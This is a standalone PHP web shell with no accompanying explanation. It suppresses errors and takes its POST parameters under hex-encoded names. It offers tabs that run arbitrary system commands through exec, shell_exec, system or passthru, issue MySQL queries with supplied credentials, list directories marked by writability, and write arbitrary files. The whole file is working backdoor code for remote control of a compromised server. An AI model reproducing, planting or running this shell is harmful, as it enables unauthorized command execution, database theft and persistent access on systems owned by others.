<?php
error_reporting(0); @set_time_limit(0);
function p($k) { return $_POST[bin2hex($k)] ?? ''; }
function run($c) { foreach (['exec', 'shell_exec', 'system', 'passthru'] as $f) { if (is_callable($f)) { ob_start(); $r = $f === 'exec' ? ($f($c, $o) !== false ? implode("\n", $o) : '') : $f($c); return $r . ob_get_clean(); } } return ''; }
$tab = p('tab') ?: 'files'; $in = p('in');
echo '<style>body{background:#111;color:#0f0;font:12px monospace}</style><h3>[ ', php_uname('n'), ' ] ', get_current_user(), ' ', getmyuid(), '</h3>';
if ($tab === 'cmd') { echo '<pre>', htmlspecialchars(run($in)), '</pre>'; }
if ($tab === 'sql' && $in) { [$h, $u, $w, $q] = explode('|', $in, 4); $m = new mysqli($h, $u, $w); foreach ($m->query($q) as $row) { echo implode(' | ', $row), '<br>'; } }
if ($tab === 'files') { $d = $in ?: '.'; foreach (scandir($d) as $f) { echo is_writable("$d/$f") ? '+' : '-', ' ', $f, '<br>'; } }
if ($tab === 'put') { [$n, $c] = explode("\n", $in, 2); echo file_put_contents($n, $c); }
